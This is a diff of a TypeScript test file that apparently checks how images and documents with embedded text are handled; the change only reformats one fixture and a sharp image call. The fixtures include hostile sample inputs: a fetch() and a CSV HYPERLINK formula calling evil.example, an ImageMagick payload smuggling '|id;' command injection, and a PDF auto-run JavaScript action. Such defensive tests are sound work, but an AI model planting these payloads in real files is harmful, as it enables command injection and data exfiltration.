@@ -20,7 +20,10 @@ const texts: [string, string][] = [
   ['JavaScript', `fetch('//evil.example?${MARK}')`],
   ['JSON', JSON.stringify({ MARK })],
   ['a CSV with a formula', `=HYPERLINK("http://evil.example","${MARK}")`],
-  ['an ImageMagick script', `push graphic-context\nfill 'url(https://evil.example/"|id; ${MARK}")'\npop graphic-context`],
+  [
+    'an ImageMagick script',
+    `push graphic-context\nfill 'url(https://evil.example/"|id; ${MARK}")'\npop graphic-context`,
+  ],
   ['an EPS program', `%!PS-Adobe-3.0 EPSF-3.0\n(${MARK}) show`],
   ['a PDF with an action', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARK})>>>>endobj`],
   ['plain words', MARK],
@@ -95,7 +98,8 @@ const exif = {
 
 function aPicture(format: 'jpeg' | 'png' | 'gif'): Promise<Buffer> {
   const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
-  return sharp({ create: { width: 120, height: 90, channels: 3, background: '#246', noise } })[format]().toBuffer();
+  const picture = sharp({ create: { width: 120, height: 90, channels: 3, background: '#246', noise } });
+  return picture.toFormat(format).toBuffer();
 }
 
 function overwritten(bytes: Buffer, mark: Buffer): Buffer {
